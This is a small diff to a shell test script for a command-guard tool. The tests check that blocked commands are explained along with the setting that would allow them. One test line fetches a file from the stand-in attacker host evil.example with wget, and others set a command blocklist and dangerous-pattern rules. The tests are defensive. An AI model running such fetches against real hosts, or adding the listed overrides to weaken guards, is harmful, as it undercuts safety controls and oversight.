@@ -51,7 +51,7 @@ allowed() {
         said=$(why --set 'guard.command_blocklist=["git push"]' 'git push origin x')
         is subject 'git push'
         is setting 'guard.command_allow_overrides = ["git push"]'
-        said=$(why 'wget https://evil.example/x')
+        said=$(why --network inherit 'wget https://evil.example/x')
         is kind domain-not-allowed
         is setting 'guard.domain_allowlist = ["evil.example"]'
         said=$(why --set 'guard.dangerous_patterns=["ab+c"]' 'echo abbc')
